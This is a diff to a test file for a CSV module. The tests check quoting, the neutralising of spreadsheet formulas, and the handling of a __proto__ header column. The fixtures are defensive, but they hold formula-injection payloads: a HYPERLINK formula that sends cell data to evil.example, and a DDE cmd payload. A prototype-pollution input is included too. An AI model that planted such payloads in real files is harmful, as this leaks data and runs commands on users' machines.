@@ -1,6 +1,6 @@
 /** The project's CSV: RFC 4180 quoting, and no cell a spreadsheet would run as a formula. */
 import { describe, expect, it } from 'vitest';
-import { parseCsvRows, toCsv } from '../../src/experiment/csv.js';
+import { parseCsv, parseCsvRows, toCsv } from '../../src/experiment/csv.js';
 
 describe('CSV cells', () => {
   const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1', '\r=1'];
@@ -17,5 +17,12 @@ describe('CSV cells', () => {
     const text = toCsv(['value'], plain.map((cell) => [cell]));
     expect(text).toBe("value\n-12.5\n-12.50\n1e-5\n+3\n''=already\nit's\nplain\n");
     expect(parseCsvRows(text).slice(1).map(([cell]) => cell)).toEqual(plain.map(String));
+  });
+
+  it('read back into records keyed by the header, a column a tampered file names __proto__ only a key', () => {
+    expect(parseCsv('a,b\n1,"x,""y"""\r\n2\n')).toEqual([{ a: '1', b: 'x,"y"' }, { a: '2', b: '' }]);
+    const [record] = parseCsv('__proto__,a\npolluted,1\n');
+    expect(Object.getPrototypeOf(record)).toBe(Object.prototype);
+    expect(Object.keys(record!)).toEqual(['__proto__', 'a']);
   });
 });
